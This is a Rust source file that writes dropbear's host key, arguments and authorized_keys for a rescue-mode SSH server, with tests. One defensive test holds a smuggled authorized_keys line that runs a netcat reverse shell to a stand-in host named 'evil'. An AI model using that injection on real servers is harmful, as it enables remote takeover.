//! Rescue mode's SSH server, pure: dropbear's command line, its host key
//! file, and `authorized_keys` from the keys the controller sent (each one
//! line, or refused). [`super::pid1`] writes the files and starts dropbear.

use byoi_wire::ssh::{check_authorized_key, ssh_string, AuthorizedKeyError, SshHostKey, ED25519};

/// Where dropbear finds its Ed25519 host key (its default path).
pub const HOST_KEY_PATH: &str = "/etc/dropbear/dropbear_ed25519_host_key";

/// dropbear's private key file for an Ed25519 key, as dropbear 2022.83's
/// `buf_put_ed25519_priv_key` writes it (and `dropbearconvert` reads it):
/// the SSH string `ssh-ed25519`, then one SSH string holding the 32-byte
/// seed followed by the 32-byte public key. dropbear does not read
/// OpenSSH's format, and `dropbearconvert` is not in the initramfs.
pub fn dropbear_host_key(key: &SshHostKey) -> Vec<u8> {
    let mut both = [0u8; 64];
    both[..32].copy_from_slice(&key.seed);
    both[32..].copy_from_slice(&key.public);
    let mut out = Vec::with_capacity(83);
    ssh_string(&mut out, ED25519.as_bytes());
    ssh_string(&mut out, &both);
    out
}

/// dropbear's arguments: in the foreground, logging to stderr (the
/// console), on port 22, public keys only (`-s`: no password logins), no
/// local or remote port forwarding (`-j`, `-k`: a rescue shell is not a
/// tunnel into the provisioning network). With `host_key`, that key file
/// (`-r`); without one (a controller that sends none), a key made at
/// startup (`-R`), new at every boot.
pub fn dropbear_args(host_key: Option<&str>) -> Vec<String> {
    let mut args: Vec<String> = ["-F", "-E", "-s", "-j", "-k", "-p", "22"].map(String::from).to_vec();
    match host_key {
        Some(path) => args.extend(["-r".to_owned(), path.to_owned()]),
        None => args.push("-R".to_owned()),
    }
    args
}

/// A key the controller sent that `authorized_keys` cannot hold.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("refusing SSH key {number} of {count}: {why}")]
pub struct RefusedKey {
    /// 1-based position in the list.
    pub number: usize,
    /// How many keys were sent.
    pub count: usize,
    /// What is wrong with it.
    pub why: AuthorizedKeyError,
}

/// `authorized_keys` with one line per acceptable key, and the keys
/// refused (never written: a line break would add keys or options).
pub fn authorized_keys(keys: &[String]) -> (String, Vec<RefusedKey>) {
    let mut file = String::new();
    let mut refused = Vec::new();
    for (i, k) in keys.iter().enumerate() {
        match check_authorized_key(k) {
            Ok(()) => {
                file.push_str(k.trim());
                file.push('\n');
            }
            Err(why) => refused.push(RefusedKey { number: i + 1, count: keys.len(), why }),
        }
    }
    (file, refused)
}

#[cfg(test)]
mod tests {
    use std::path::Path;
    use std::process::Command;

    use super::*;

    fn tool(dir: &Path, program: &str, args: &[&str]) -> String {
        let out =
            Command::new(program).args(args).current_dir(dir).output().unwrap_or_else(|e| {
                panic!("{program}: {e} (install dropbear-bin and openssh-client: cargo xtask setup)")
            });
        let text = String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr);
        assert!(out.status.success(), "{program} {args:?}: {text}");
        text
    }

    /// dropbear's own tools as the oracle: `dropbearconvert` reads our file
    /// and writes it back byte for byte; OpenSSH sees the public key and
    /// fingerprint we compute.
    #[test]
    fn the_host_key_file_is_dropbears_own_format() {
        let dir = tempfile::tempdir().unwrap();
        let k = SshHostKey::RFC8032_TEST_1;
        let ours = dropbear_host_key(&k);
        assert_eq!(ours.len(), 83);
        std::fs::write(dir.path().join("ours"), &ours).unwrap();
        tool(dir.path(), "dropbearconvert", &["dropbear", "openssh", "ours", "openssh"]);
        tool(dir.path(), "dropbearconvert", &["openssh", "dropbear", "openssh", "back"]);
        assert_eq!(std::fs::read(dir.path().join("back")).unwrap(), ours);
        let public = tool(dir.path(), "ssh-keygen", &["-y", "-f", "openssh"]);
        assert_eq!(public.split_whitespace().take(2).collect::<Vec<_>>().join(" "), k.openssh_public());
        let printed = tool(dir.path(), "dropbearkey", &["-y", "-f", "ours"]);
        assert!(printed.contains(&k.openssh_public()), "{printed}");
        assert!(printed.contains(&format!("Fingerprint: {}", k.fingerprint())), "{printed}");
        let listed = tool(dir.path(), "ssh-keygen", &["-l", "-f", "openssh"]);
        assert!(listed.contains(&k.fingerprint()), "{listed}");
    }

    /// dropbear itself, started with our arguments and key file, presents
    /// that key: `ssh-keyscan` (which checks the key exchange's signature)
    /// sees our public key, under our fingerprint.
    #[test]
    fn dropbear_presents_the_host_key_we_wrote() {
        struct Daemon(std::process::Child);
        impl Drop for Daemon {
            fn drop(&mut self) {
                let _ = self.0.kill();
                let _ = self.0.wait();
            }
        }
        let dir = tempfile::tempdir().unwrap();
        let k = SshHostKey::RFC8032_TEST_1;
        let path = dir.path().join("host_key");
        std::fs::write(&path, dropbear_host_key(&k)).unwrap();
        let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
        let mut args = dropbear_args(Some(path.to_str().unwrap()));
        let at = args.iter().position(|a| a == "-p").unwrap();
        args[at + 1] = format!("127.0.0.1:{port}");
        let _daemon = Daemon(
            Command::new("/usr/sbin/dropbear")
                .args(&args)
                .stderr(std::process::Stdio::null())
                .spawn()
                .expect("dropbear (install dropbear-bin: cargo xtask setup)"),
        );
        let mut scanned = String::new();
        for _ in 0..50 {
            let out = Command::new("ssh-keyscan")
                .args(["-T", "2", "-t", "ed25519", "-p", &port.to_string(), "127.0.0.1"])
                .output()
                .unwrap();
            scanned = String::from_utf8_lossy(&out.stdout).into_owned();
            if !scanned.trim().is_empty() {
                break;
            }
            std::thread::sleep(std::time::Duration::from_millis(100));
        }
        let line = scanned.lines().find(|l| !l.starts_with('#')).unwrap_or_else(|| panic!("no key: {scanned:?}"));
        assert!(line.ends_with(&k.openssh_public()), "{line}");
        std::fs::write(dir.path().join("known"), line).unwrap();
        let listed = tool(dir.path(), "ssh-keygen", &["-l", "-f", "known"]);
        assert!(listed.contains(&k.fingerprint()), "{listed}");
    }

    #[test]
    fn dropbear_forwards_nothing_and_takes_no_passwords() {
        let args = dropbear_args(Some(HOST_KEY_PATH));
        for flag in ["-s", "-j", "-k"] {
            assert!(args.iter().any(|a| a == flag), "{flag} missing: {args:?}");
        }
        assert!(args.windows(2).any(|w| w[0] == "-r" && w[1] == HOST_KEY_PATH), "{args:?}");
        assert!(!args.iter().any(|a| a == "-R"));
        let fallback = dropbear_args(None);
        assert!(fallback.iter().any(|a| a == "-R") && !fallback.iter().any(|a| a == "-r"), "{fallback:?}");
        assert!(fallback.iter().any(|a| a == "-j") && fallback.iter().any(|a| a == "-k"));
    }

    #[test]
    fn keys_with_line_breaks_are_refused_and_never_written() {
        let good = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE/TkG/WsQ95ZyZ8dYc2QhzQ3YAeFF+ymXjRnHXsAnoD op@x".to_owned();
        let smuggler = format!("{good}\ncommand=\"nc -e /bin/sh evil 1\" ssh-ed25519 AAAA evil");
        let (file, refused) = authorized_keys(&[good.clone(), smuggler, "   ".into()]);
        assert_eq!(file, format!("{good}\n"));
        let msgs: Vec<String> = refused.iter().map(ToString::to_string).collect();
        assert_eq!(
            msgs,
            [
                "refusing SSH key 2 of 3: the SSH key contains a line break or a control character: one public key \
                 on one line, as in authorized_keys",
                "refusing SSH key 3 of 3: the SSH key is empty",
            ]
        );
    }
}
